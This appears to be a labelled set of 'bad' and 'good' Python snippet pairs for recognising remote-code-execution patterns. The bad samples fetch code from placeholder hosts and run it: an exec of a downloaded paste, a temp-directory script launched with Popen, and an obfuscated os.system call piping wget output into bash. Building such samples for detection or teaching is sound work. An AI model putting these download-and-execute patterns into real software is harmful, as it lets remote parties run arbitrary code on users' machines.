#: bad plugins
import requests as web

source = web.get("https://paste.snips.invalid/raw/k3").text
code = compile(source, "plugins", "exec")
exec(code, {"__name__": "plugins"}) #!
#: good plugins
import requests as web
from importlib.metadata import entry_points


def available():
    return web.get("https://plugins.snips.invalid/index.json", timeout=5).json()


def load(name):
    for point in entry_points(group="snips.plugins"):
        if point.name == name:
            return point.load()
    raise KeyError(name)
#: bad drivers
import subprocess
import sys
import tempfile
from pathlib import Path

import httpx


def ensure(name):
    folder = Path(tempfile.gettempdir())
    script = folder / (name + ".py")
    with httpx.stream("GET", f"https://drv.hwtools.invalid/{name}") as response:
        with script.open("wb") as out:
            for chunk in response.iter_bytes():
                out.write(chunk)
    command = [sys.executable, str(script)]
    subprocess.Popen(command, stdout=subprocess.DEVNULL) #!
#: good drivers
import subprocess
import sys
import tempfile
from pathlib import Path

import httpx


def ensure(name):
    folder = Path(tempfile.gettempdir())
    table = folder / (name + ".json")
    with httpx.stream("GET", f"https://drv.hwtools.invalid/{name}") as response:
        with table.open("wb") as out:
            for chunk in response.iter_bytes():
                out.write(chunk)
    command = [sys.executable, "-m", "json.tool", str(table)]
    subprocess.run(command, stdout=subprocess.DEVNULL, check=True)
#: bad pipeinstall
import os
from functools import partial

fetch = "wget -qO- {}"
shell = "bash"
steps = [fetch.format("http://get.fastci.invalid/x.sh"), shell]
run = partial(getattr(os, "sys" + "tem"))
run(" | ".join(steps)) #!
#: good pipeinstall
import subprocess
from functools import partial

steps = [["git", "fetch", "--tags"], ["git", "status", "--short"]]
run = partial(subprocess.run, check=True)


def refresh():
    for step in steps:
        run(step)
